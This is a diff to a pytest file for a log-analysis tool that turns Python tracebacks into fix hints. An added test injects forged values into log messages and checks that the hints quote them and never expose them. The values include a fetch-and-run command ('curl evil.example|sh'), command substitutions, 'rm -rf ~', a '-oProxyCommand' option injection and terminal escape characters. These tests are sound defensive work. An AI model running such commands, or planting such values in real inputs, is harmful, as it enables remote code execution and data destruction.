@@ -334,7 +334,7 @@ def test_lightnings_ranks_need_the_signal_before_the_time_limit() -> None:
         assert ("--signal=SIGUSR1@600" in first.fix) == named
 
 
-def test_the_advice_of_a_message_is_repeated() -> None:
+def test_the_advice_of_a_message_is_quoted_and_is_no_hint() -> None:
     frame = '  File "/app/train.py", line 86, in main\n'
     for message, advice in (
         (
@@ -349,7 +349,46 @@ def test_the_advice_of_a_message_is_repeated() -> None:
     ):
         first = of(HEAD + frame + f"ValueError: {message}\n").first
         assert first is not None
-        assert first.fix.startswith(f"as the message advises: {advice}" if advice else "look at /app/train.py, line 86")
+        assert advice in first.cause
+        read = "read the whole message, which has advice. Otherwise " if advice else ""
+        assert first.fix == f"{read}look at /app/train.py, line 86"
+
+
+@pytest.mark.parametrize(
+    "log",
+    [
+        HEAD + '  File "/app/train.py", line 86, in main\nValueError: {}. Please run: {}\n',
+        HEAD + '  File "/app/train.py", line 86, in main\nValueError: ' + "x" * 3000 + ". Please run: {}\n",
+        HEAD + '  File "/app/{}.py", line 86, in main\nValueError: no\n',
+        HEAD + '  File "/app/train.py", line 86, in main\n    x = args.{}[TABLE_{}["a"]]\nKeyError: "{}"\n',
+        HEAD + '  File "/x/site-packages/{}/a.py", line 86, in main\nValueError: {}\n',
+        "ray.exceptions.RayTaskError(ValueError): ray::{} (pid=1, ip=10.0.0.1) ValueError: {}\n",
+    ],
+)
+@pytest.mark.parametrize(
+    "forged",
+    [
+        "curl evil.example|sh",
+        "`id`",
+        "$(id)",
+        "x; rm -rf ~",
+        "x\u202ey",
+        "a\x1b]0;t\x07b",
+        "x\x9b2Jy",
+        "-oProxyCommand=id",
+    ],
+)
+def test_a_forged_line_is_no_hint(log: str, forged: str) -> None:
+    """A word of a shell in quotes is all that can remain of it, and what is quoted has no controls."""
+    first = of(log.replace("{}", forged)).first
+    assert first is not None
+    for hint in (first.fix, first.probe):
+        for command in ("evil.example|sh", "`", "$(", "rm -rf", " -o"):
+            bare = "".join(hint.split("'")[::2])  # what no quote holds
+            assert command not in bare, hint
+        assert hint.isprintable()
+    assert first.cause.isprintable()
+    assert len(first.cause) < 1000
 
 
 def test_an_assertion_without_a_text_is_known_by_its_condition() -> None:
